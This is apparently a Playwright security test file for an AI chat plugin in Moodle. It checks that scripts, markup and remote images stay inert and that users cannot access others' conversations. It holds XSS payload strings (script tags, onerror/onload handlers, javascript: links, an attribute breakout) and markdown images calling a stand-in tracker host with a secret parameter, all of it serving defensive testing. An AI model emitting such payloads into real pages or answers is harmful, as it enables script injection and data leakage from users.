"""What nobody may do: read what others wrote, run a script in somebody's page, make a browser ask elsewhere."""

import pytest
from playwright.sync_api import expect

from tests.moodle.site.conftest import Visit
from tests.moodle.site.stage import Stage, says, tokens

EVIL = (
    "<script>window.pwned = 1</script><img src=x onerror='window.pwned = 1'>"
    "<svg onload='window.pwned = 1'></svg>[click](javascript:window.pwned=1)"
)
REMOTE = "![a pixel](https://tracker.example.org/p.png?secret=1) and <img src='https://tracker.example.org/q.png'>"


@pytest.mark.parametrize("delivery", ["handover", "relay", "poll"])
def test_markup_of_the_model_stays_text_while_it_comes_and_is_cleaned_in_the_end(
    stage: Stage, visit: Visit, delivery: str
) -> None:
    stage.set(delivery=delivery)
    student = visit()
    student.go_to_course()
    student.drawer.ask(f"Attack. {stage.script(f'evil_{delivery}', tokens(15, pause=0.1, first=EVIL))}")
    expect(student.drawer.text).to_contain_text("<script>window.pwned")
    student.drawer.wait_for_end("word15")
    assert student.page.evaluate("window.pwned") is None
    for hostile in ("script", "svg", "img[onerror]", "a[href^='javascript']"):
        expect(student.drawer.text.locator(hostile)).to_have_count(0)
    student.page.reload()
    student.drawer.open()
    expect(student.drawer.text).to_contain_text("word15")
    assert student.page.evaluate("window.pwned") is None


def test_no_image_is_asked_for_from_elsewhere(stage: Stage, visit: Visit) -> None:
    student = visit()
    student.go_to_course()
    student.drawer.ask(f"Show me. {stage.script('remote', says(REMOTE))}")
    student.drawer.wait_for_end("and")
    student.page.reload()
    student.drawer.open()
    expect(student.drawer.text).to_contain_text("and")
    assert not [url for url in student.requested if "tracker.example.org" in url]


def test_what_the_student_writes_stays_text(stage: Stage, visit: Visit) -> None:
    student = visit()
    student.go_to_course()
    student.drawer.ask(EVIL)
    student.drawer.wait_for_end("good question")
    expect(student.drawer.questions.last).to_contain_text("<script>window.pwned")
    student.page.reload()
    student.drawer.open()
    expect(student.drawer.questions.last).to_contain_text("<script>window.pwned")
    assert student.page.evaluate("window.pwned") is None
    (asked,) = [asked for asked in stage.provider.asked if "onerror" in asked.body.decode()][-1:]
    assert "<script>" in asked.body.decode()


@pytest.mark.parametrize("title", ['" onmouseover=window.pwned=1 x="', "<img src=x onerror='window.pwned = 1'>"])
def test_a_title_is_text_in_the_list_of_conversations(visit: Visit, title: str) -> None:
    student = visit()
    student.go_to_course()
    student.drawer.ask(title)
    student.drawer.wait_for_end("good question")
    student.go("/local/aisidecar/history.php")
    entry = student.page.locator('[data-region="history"] [data-id]').first
    expect(entry).to_contain_text(title)
    delete = entry.get_by_role("button", name=f"Delete conversation {title}")
    delete.hover()
    delete.click()
    expect(student.page.locator(".modal.show .modal-body")).to_contain_text(title)
    assert student.page.evaluate("window.pwned") is None


def test_code_and_mathematics_are_rendered(stage: Stage, visit: Visit) -> None:
    student = visit()
    student.go_to_course()
    answer = "Run it:\n\n```python\nprint('<b>')\n```\n\nand $$x^2$$ is a square."
    student.drawer.ask(f"Code. {stage.script('code', says(answer))}")
    student.drawer.wait_for_end("is a square")
    expect(student.drawer.text.locator("pre code")).to_contain_text("print('<b>')")
    expect(student.drawer.text.locator(".filter_mathjaxloader_equation")).to_have_count(1)


def test_nobody_reads_stops_or_deletes_what_another_wrote(stage: Stage, visit: Visit) -> None:
    owner = visit("student")
    owner.go_to_course()
    owner.drawer.ask(f"My secret. {stage.script('secret', tokens(3000, pause=0.05, first='Keep it. '))}")
    expect(owner.drawer.text).to_contain_text("word2 ")
    found = owner.call("local_aisidecar_get_conversation", contextid=owner.context_id, conversationid=0)
    conversation, running = found["data"]["conversationid"], found["data"]["running"]["messageid"]
    for name in ("other", "teacher"):
        thief = visit(name)
        thief.go_to_course()
        refused = {
            "read": thief.call("local_aisidecar_read", messageid=running, after=0),
            "finish": thief.call("local_aisidecar_finish", messageid=running),
            "stop": thief.call("local_aisidecar_stop", messageid=running),
            "get": thief.call(
                "local_aisidecar_get_conversation", contextid=thief.context_id, conversationid=conversation
            ),
            "delete": thief.call("local_aisidecar_delete_conversation", conversationid=conversation),
            "go on": thief.call(
                "local_aisidecar_start",
                contextid=thief.context_id,
                action="chat",
                content="What was it?",
                conversationid=conversation,
                key="theft",
                replaces=0,
            ),
        }
        assert {what: answer["error"] for what, answer in refused.items()} == dict.fromkeys(refused, True)
        assert "secret" not in str(refused)
        status, body = thief.stream(messageid=running, after=0)
        assert status in (403, 404)
        assert "Keep it" not in body
    # It runs on as if nothing had been.
    expect(owner.drawer.text).to_contain_text("word40 ")
    owner.drawer.action("stop").click()
    owner.drawer.wait_for_end("word40 ")


def test_without_the_session_key_nothing_is_read(stage: Stage, visit: Visit) -> None:
    student = visit()
    student.go_to_course()
    student.drawer.ask(f"Slowly. {stage.script('nokey', tokens(40, pause=0.05))}")
    expect(student.drawer.text).to_contain_text("word2 ")
    found = student.call("local_aisidecar_get_conversation", contextid=student.context_id, conversationid=0)
    status, body = student.stream(messageid=found["data"]["running"]["messageid"], after=0, sesskey="wrong")
    assert status in (400, 403)
    assert "word1" not in body
    student.drawer.wait_for_end("word40")


def test_the_hand_over_is_closed_to_those_who_ask_for_it_themselves(stage: Stage, visit: Visit) -> None:
    student = visit()
    student.go("/my/")
    answer = student.page.request.get(f"{stage.site.url}/_sidecar/replies/t_anything")
    assert answer.status == 404
